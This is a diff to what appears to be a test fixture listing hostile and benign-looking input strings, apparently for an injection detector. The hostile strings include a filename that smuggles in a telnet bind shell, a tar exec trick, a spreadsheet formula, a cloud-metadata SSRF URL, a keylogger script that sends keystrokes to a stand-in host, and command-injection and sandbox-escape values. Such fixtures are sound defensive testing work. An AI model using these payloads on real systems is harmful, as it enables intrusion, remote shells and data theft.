@@ -51,6 +51,8 @@ SHELL = (
     'filename="; busybox telnetd -p 2323 -l /bin/sh;.jpg"',
     "compress logs.tar --checkpoint=1 --checkpoint-action=exec=sh\\ shell.sh",
     "=cmd|' /C calc'!A0",
+    "192.0.2.7; ps aux",
+    "report.pdf;ls",
 )
 REQUESTS_AND_PATHS = (
     "http://2852039166/latest/meta-data/",
@@ -68,6 +70,8 @@ SCRIPTS = (
     "can't log in <script>window.onkeypress=e=>fetch('//log.test/'+e.key)</script>",
     "__proto__[admin]=1",
     "admin'/*",
+    "[].filter.constructor.constructor('return 1')()",
+    "getattr(__import__('subprocess'), 'run')('id')",
 )
 LESSONS = (
     "<button onclick=\"alert('Hi')\">Click</button> does not work in React",
@@ -82,6 +86,8 @@ LESSONS = (
     "(&(objectClass=user)(sAMAccountName=jdoe)) returns nothing in AD",
     "http://localhost:8080/api?url=https://example.com",
     "${env:HOME} in Serilog",
+    "cd build && ls",
+    'What does "a.txt; ls" do?',
     "What is 169.254.x.x (APIPA)?",
     'what does the regex "[\\u200b\\u200c\\u200d]" match?',
 )
